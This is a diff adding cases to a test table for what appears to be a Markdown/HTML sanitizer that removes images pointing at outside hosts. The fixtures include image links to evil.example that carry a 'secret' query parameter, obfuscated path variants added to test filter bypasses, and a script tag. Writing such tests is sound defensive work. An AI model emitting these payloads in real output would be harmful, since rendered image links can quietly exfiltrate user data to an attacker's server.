@@ -217,6 +217,8 @@ def ready(context: Context) -> Context:
     [
         ("![x](https://evil.example/p.png?q=secret)", "[image left out: evil.example]"),
         ("![x](//evil.example/p.png)", "[image left out: evil.example]"),
+        (r"![x](/\evil.example/p.png)", "[image left out: evil.example]"),
+        (r"![x](\\\\evil.example\p.png)", "[image left out: evil.example]"),
         ("![x][r]\n\n[r]: https://evil.example/p", "[image left out: evil.example]\n\n[r]: https://evil.example/p"),
         ('<img src="https://evil.example/p">', '&lt;img src="https://evil.example/p">'),
         ("a <script>fetch('x')</script> b", "a &lt;script>fetch('x')&lt;/script> b"),
